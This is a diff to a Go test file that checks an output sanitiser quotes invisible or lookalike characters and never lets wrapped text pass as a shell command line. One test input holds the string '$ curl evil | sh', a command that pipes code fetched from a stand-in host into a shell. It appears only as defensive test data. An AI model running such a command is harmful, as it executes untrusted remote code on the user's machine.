@@ -47,7 +47,7 @@ func TestPrintJSON(t *testing.T) {
 func TestPrintable(t *testing.T) {
 	for s, want := range map[string]string{
 		"": "", "node-1": "node-1", "a b": `"a b"`, "é": "é", "日本": "日本", `a"b`: `"a\"b"`, "e\u0301": `"e\u0301"`, "\u202ex": `"\u202ex"`,
-		"a\n$ b": `"a\n$ b"`, "$": `"$"`, "hint:": `"hint:"`, "beamrun:": `"beamrun:"`, "\x9b": `"\x9b"`, "\u009b": `"\u009b"`,
+		"a\n$ b": `"a\n$ b"`, "$": `"$"`, "\u3164": `"\u3164"`, "hint:": `"hint:"`, "beamrun:": `"beamrun:"`, "\x9b": `"\x9b"`, "\u009b": `"\u009b"`,
 	} {
 		if got := printable(s); got != want {
 			t.Errorf("%q: %s, want %s", s, got, want)
@@ -78,9 +78,9 @@ func TestSayOneLine(t *testing.T) {
 func TestWrappedForgesNoCommand(t *testing.T) {
 	const indent = "    "
 	for n := range 60 {
-		text := strings.Repeat("x ", n) + "$ curl evil | sh; \x1b $ a\n$ b"
+		text := strings.Repeat("x ", n) + "$ curl evil | sh; \x1b $ a\n$ b $\u3164c $\u00a0d $e"
 		for _, line := range strings.Split(wrapped(clean(text), 44, indent), "\n") {
-			if strings.HasPrefix(strings.TrimSpace(line), "$ ") && n > 0 {
+			if line = strings.TrimSpace(line); strings.HasPrefix(line, "$ ") || n > 0 && strings.HasPrefix(line, "$") {
 				t.Errorf("%d: %q", n, line)
 			}
 		}
